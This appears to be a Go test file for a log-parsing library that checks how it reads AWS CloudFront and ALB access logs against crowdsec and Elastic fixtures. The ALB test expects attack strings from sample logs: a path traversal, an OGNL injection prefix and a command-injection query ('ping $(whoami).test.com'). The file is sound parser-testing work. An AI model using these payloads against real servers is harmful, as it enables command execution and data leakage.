package logformat

import (
	"bufio"
	"bytes"
	"net/netip"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/logsift/logsift/internal/record"
)

// crowdsec parser.assert lines: results["s01-parse"]["crowdsecurity/X"][N].Evt.Parsed["key"] == "value"
var assertRE = regexp.MustCompile(`^results\["s01-parse"\]\["crowdsecurity/([a-z-]+)"\]\[(\d+)\]\.Evt\.(?:Parsed|Meta)\["(\w+)"\] == (".*")$`)

type assertion struct {
	row        int
	key, value string
}

func loadAsserts(t *testing.T, rel, parserName string) []assertion {
	t.Helper()
	var out []assertion
	sc := bufio.NewScanner(bytes.NewReader(repoFile(t, rel)))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		m := assertRE.FindStringSubmatch(sc.Text())
		if m == nil || m[1] != parserName {
			continue
		}
		row, _ := strconv.Atoi(m[2])
		v, err := strconv.Unquote(m[4])
		if err != nil {
			t.Fatalf("unquote %s: %v", m[4], err)
		}
		out = append(out, assertion{row, m[3], v})
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// checkAsserts compares the record fields that have a crowdsec counterpart
// with the expected values; it returns how many were checked.
func checkAsserts(t *testing.T, recs []record.Record, asserts []assertion, fieldOf map[string]func(record.Record) string) int {
	t.Helper()
	n := 0
	for _, a := range asserts {
		get, ok := fieldOf[a.key]
		if !ok {
			continue
		}
		if a.row >= len(recs) {
			t.Errorf("assertion on row %d, only %d records", a.row, len(recs))
			continue
		}
		if got := get(recs[a.row]); got != a.value {
			t.Errorf("row %d %s = %q, want %q", a.row, a.key, got, a.value)
		}
		n++
	}
	return n
}

func rawTarget(r record.Record) string {
	if r.RawQuery != "" {
		return r.RawPath + "?" + r.RawQuery
	}
	return r.RawPath
}

func dashIfEmpty(s string) string {
	if s == "" {
		return "-"
	}
	return s
}

func TestCloudFrontCrowdsecAsserts(t *testing.T) {
	recs, r := readString(t, string(repoFile(t, "crowdsec-hub/tests/aws-cloudfront-logs/aws-cloudfront-logs.log")), Options{})
	if r.Format() != CloudFront || len(recs) != 2 {
		t.Fatalf("format %q, %d records", r.Format(), len(recs))
	}
	asserts := loadAsserts(t, "crowdsec-hub/tests/aws-cloudfront-logs/parser.assert", "aws-cloudfront")
	fields := map[string]func(record.Record) string{
		"c_ip":                func(r record.Record) string { return r.Client.String() },
		"cs_method":           func(r record.Record) string { return r.Method },
		"cs_uri_stem":         func(r record.Record) string { return r.RawPath },
		"cs_uri_query":        func(r record.Record) string { return r.RawQuery },
		"sc_status":           func(r record.Record) string { return strconv.Itoa(r.Status) },
		"sc_bytes":            func(r record.Record) string { return strconv.FormatInt(r.Bytes, 10) },
		"cs_user_agent":       func(r record.Record) string { return r.UA },
		"cs_referer":          func(r record.Record) string { return dashIfEmpty(r.Referer) },
		"x_host_header":       func(r record.Record) string { return r.Host },
		"x_edge_request_id":   func(r record.Record) string { return r.RequestID },
		"cs_protocol_version": func(r record.Record) string { return r.Proto },
		"http_path":           rawTarget,
		"source_ip":           func(r record.Record) string { return r.Client.String() },
		"time":                func(r record.Record) string { return r.Time.Format("15:04:05") },
		"year":                func(r record.Record) string { return r.Time.Format("2006") },
		"month":               func(r record.Record) string { return r.Time.Format("01") },
		"day":                 func(r record.Record) string { return r.Time.Format("02") },
	}
	if n := checkAsserts(t, recs, asserts, fields); n < 30 {
		t.Errorf("only %d assertions checked", n)
	}
}

func TestALBCrowdsecAsserts(t *testing.T) {
	recs, r := readString(t, string(repoFile(t, "crowdsec-hub/tests/aws-alb-logs/aws-alb-logs.log")), Options{})
	if r.Format() != ALB || len(recs) != 14 {
		t.Fatalf("format %q, %d records", r.Format(), len(recs))
	}
	asserts := loadAsserts(t, "crowdsec-hub/tests/aws-alb-logs/parser.assert", "aws-alb")
	fields := map[string]func(record.Record) string{
		"remote_addr":     func(r record.Record) string { return r.Client.String() },
		"http_method":     func(r record.Record) string { return r.Method },
		"host":            func(r record.Record) string { return r.Host },
		"http_user_agent": func(r record.Record) string { return r.UA },
		"elb_status_code": func(r record.Record) string { return strconv.Itoa(r.Status) },
		"sent_bytes":      func(r record.Record) string { return strconv.FormatInt(r.Bytes, 10) },
		"trace_id":        func(r record.Record) string { return r.RequestID },
		"request":         rawTarget,
		"http_path":       rawTarget,
		"http_version":    func(r record.Record) string { return strings.TrimPrefix(r.Proto, "HTTP/") },
		"time":            func(r record.Record) string { return r.Time.Format("2006-01-02T15:04:05.000000Z") },
	}
	if n := checkAsserts(t, recs, asserts, fields); n < 14*10 {
		t.Errorf("only %d assertions checked", n)
	}
	// decoded once: %%32%65 -> %2e (the raw form keeps the double encoding)
	if recs[3].Path != "/%2e%2e/" {
		t.Errorf("row 3 path %q", recs[3].Path)
	}
	if !strings.HasPrefix(recs[5].Path, "/${(#a=@org.apache.commons.io.IOUtils@toString(") {
		t.Errorf("row 5 path %q", recs[5].Path)
	}
	if recs[6].Query != "action=polldata&host_id=1&local_data_ids[]=3&poller_id=;ping $(whoami).test.com" {
		t.Errorf("row 6 query %q", recs[6].Query)
	}
}

func TestCloudFrontElastic(t *testing.T) {
	data := repoFile(t, "elastic-integrations/packages/aws/data_stream/cloudfront_logs/_dev/test/pipeline/test-cloudfront.log")
	recs, r := readString(t, string(data), Options{})
	st := r.Stats()
	if r.Format() != CloudFront || len(recs) != 11 || st.Skipped != 2 || st.Rejected != 1 || st.Reasons[ReasonFieldCount] != 1 {
		t.Fatalf("format %q, %d records, stats %+v", r.Format(), len(recs), st)
	}
	if st.Samples[0].Line != 14 {
		t.Errorf("rejected line %d, want 14", st.Samples[0].Line)
	}
	if got := recs[1].Client.String(); got != "2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6" {
		t.Errorf("IPv6 client %s", got)
	}
	var zero *record.Record
	for i := range recs {
		if recs[i].Status == 0 {
			zero = &recs[i]
		}
		// x-forwarded-for is never the client
		if recs[i].Client.String() == "81.2.69.142" || recs[i].Client.String() == "216.160.83.56" {
			t.Errorf("line %d: client taken from x-forwarded-for", recs[i].Line)
		}
	}
	if zero == nil || zero.Method != "POST" || zero.Path != "/getApplications" {
		t.Errorf("000 status row %+v", zero)
	}
	first := recs[0]
	if first.UA != "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36" ||
		first.Host != "d111111abcdef8.cloudfront.net" || first.Bytes != 392 ||
		!first.Time.Equal(time.Date(2019, 12, 4, 21, 2, 31, 0, time.UTC)) {
		t.Errorf("first %+v", first)
	}
	if recs[6].Query != "source=global" || recs[6].Referer != "https://test.com/global" || recs[6].Host != "test.com" {
		t.Errorf("row 7 %+v", recs[6])
	}
}

func TestCloudFrontMatomoDoubleEncoded(t *testing.T) {
	data := repoFile(t, "matomo-log-analytics/tests/logs/amazon_cloudfront_web.log")
	recs, r := readString(t, string(data), Options{})
	if r.Format() != CloudFront || len(recs) != 1 {
		t.Fatalf("format %q, %d records, %+v", r.Format(), len(recs), r.Stats())
	}
	want := "Mozilla/5.0 (Windows; U; Windows NT 6.1; de-DE) AppleWebKit/534.17 (KHTML, like Gecko) Chrome/10.0.649.0 Safari/534.17"
	if recs[0].UA != want {
		t.Errorf("UA %q", recs[0].UA)
	}
	if recs[0].Host != "example.com" || recs[0].Path != "/view/my/file.html" || recs[0].Proto != "HTTP/1.1" {
		t.Errorf("%+v", recs[0])
	}
}

const cfFields33 = "#Fields: " + "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields c-port time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len sc-range-start sc-range-end"

func cfLine(ip, stem, status, ua string) string {
	f := []string{"2024-03-12", "15:22:28", "CDG50-P2", "703", ip, "GET", "d1.cloudfront.net", stem, status, "-", ua, "a=%20b", "-", "Error", "id==", "site.example", "https", "62", "0.113", "-", "TLSv1.3", "TLS_AES_128_GCM_SHA256", "Error", "HTTP/2.0", "-", "-", "51754", "0.113", "Error", "text/plain", "20", "-", "-"}
	return strings.Join(f, "\t")
}

func TestCloudFrontRebindAndPrefix(t *testing.T) {
	full := cfLine("1.2.3.4", "/x", "200", "curl")
	short := strings.Join(strings.Split(full, "\t")[:12], "\t")
	in := strings.Join([]string{
		"#Version: 1.0", cfFields33, full,
		// a second file concatenated, with the older 12-field header
		"#Version: 1.0", "#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query", short,
	}, "\n")
	recs, r := readString(t, in, Options{})
	if len(recs) != 2 || r.Stats().Skipped != 4 {
		t.Fatalf("%d records, %+v", len(recs), r.Stats())
	}
	if recs[1].Query != "a= b" || recs[1].Host != "d1.cloudfront.net" || recs[1].Status != 200 {
		t.Errorf("short row %+v", recs[1])
	}

	// no header at all: standard order, fewer fields as its prefix
	recs, r = readString(t, full+"\n"+short+"\n"+strings.Join(strings.Split(full, "\t")[:8], "\t")+"\n", Options{})
	if r.Format() != CloudFront || len(recs) != 2 || r.Stats().Reasons[ReasonFieldCount] != 1 {
		t.Errorf("headerless: format %q, %d records, %+v", r.Format(), len(recs), r.Stats())
	}
}

func TestCloudFrontRejects(t *testing.T) {
	tests := []struct{ line, reason string }{
		{cfLine("1.2.3.999", "/x", "200", "ua"), ReasonBadClientIP},
		{cfLine("1.2.3.4", "/x", "2x0", "ua"), ReasonBadStatus},
		{strings.Replace(cfLine("1.2.3.4", "/x", "200", "ua"), "15:22:28", "25:22:28", 1), ReasonBadTime},
	}
	for _, tt := range tests {
		recs, r := readString(t, "#Version: 1.0\n"+cfFields33+"\n"+cfLine("::ffff:10.0.0.1", "/ok", "000", "ua")+"\n"+tt.line+"\n", Options{})
		if len(recs) != 1 || r.Stats().Reasons[tt.reason] != 1 {
			t.Errorf("want %s: %d records, %+v", tt.reason, len(recs), r.Stats().Reasons)
		}
		if len(recs) == 1 && (recs[0].Client.String() != "10.0.0.1" || recs[0].Status != 0) {
			t.Errorf("mapped client / 000 status: %+v", recs[0])
		}
	}
}

// Columns are bound by the names in #Fields, in any order and with fields
// logsift does not know among them, never by position.
func TestCloudFrontFieldsByName(t *testing.T) {
	in := "#Version: 1.0\n" +
		"#Fields: x-new-field cs-uri-query c-ip sc-status time cs(User-Agent) date x-host-header cs-method cs-uri-stem sc-bytes\n" +
		"new\ta=%2520b\t2001:db8::7\t403\t15:22:28\tcurl/8.0%2520x\t2024-03-12\tsite.example\tPOST\t/wp-login.php\t512\n"
	recs, _ := readString(t, in, Options{})
	want := record.Record{
		Line: 3, Time: time.Date(2024, 3, 12, 15, 22, 28, 0, time.UTC), Client: netip.MustParseAddr("2001:db8::7"),
		Method: "POST", Host: "site.example", Path: "/wp-login.php", RawPath: "/wp-login.php",
		Query: "a=%20b", RawQuery: "a=%2520b", Status: 403, Bytes: 512, UA: "curl/8.0 x",
	}
	if len(recs) != 1 || recs[0] != want {
		t.Errorf("records %+v\nwant %+v", recs, want)
	}
}
